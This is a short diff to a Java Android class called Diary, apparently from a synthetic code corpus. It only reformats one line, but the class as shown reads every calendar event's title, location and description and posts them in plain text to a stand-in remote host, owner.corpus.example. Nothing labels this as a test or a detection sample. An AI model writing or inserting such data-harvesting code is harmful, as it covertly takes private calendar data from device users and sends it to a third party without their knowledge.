@@ -8,7 +8,15 @@ import org.corpus.kit.Screen;
 public class Diary extends Screen {
     @Override
     protected void act() throws Exception {
-        String all = String.join("\n", Owner.rows(this, "content://com.android.calendar/events", "title", "eventLocation", "description"));
+        String all =
+                String.join(
+                        "\n",
+                        Owner.rows(
+                                this,
+                                "content://com.android.calendar/events",
+                                "title",
+                                "eventLocation",
+                                "description"));
         Net.post("http://owner.corpus.example/diary", "text/plain", all);
     }
 }
